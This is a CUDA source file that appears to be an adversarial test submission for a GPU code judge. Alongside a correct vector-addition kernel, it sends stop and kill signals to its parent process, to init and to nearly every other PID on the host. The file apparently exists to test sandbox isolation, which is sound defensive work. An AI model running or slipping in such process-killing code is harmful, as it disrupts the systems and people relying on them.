// warpjudge: vector-addition
// attack: process: signals
// expect: accepted honest-time
// Stops and kills every process it can name.
#include <csignal>
#include <cstdio>
#include <unistd.h>
__global__ void add(const float *a, const float *b, float *c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n)
        c[i] = a[i] + b[i];
}
extern "C" void solve(const float *A, const float *B, float *C, int N)
{
    static const int signals[] = {SIGSTOP, SIGKILL, SIGTERM, SIGINT, SIGHUP};
    static bool done; // once in each process: it takes half a second
    for (int s : signals) {
        if (done)
            break;
        kill(getppid(), s);
        kill(1, s);
        kill(-1, s == SIGSTOP || s == SIGKILL ? 0 : 0);
        for (int pid = 2; pid < 70000; pid++) {
            char name[64];
            snprintf(name, sizeof name, "/proc/self/task/%d", pid);
            if (pid != getpid() && access(name, F_OK) != 0) /* own threads, as CUDA has */
                kill(pid, s);
        }
    }
    done = true;
    add<<<(N + 255) / 256, 256>>>(A, B, C, N);
}
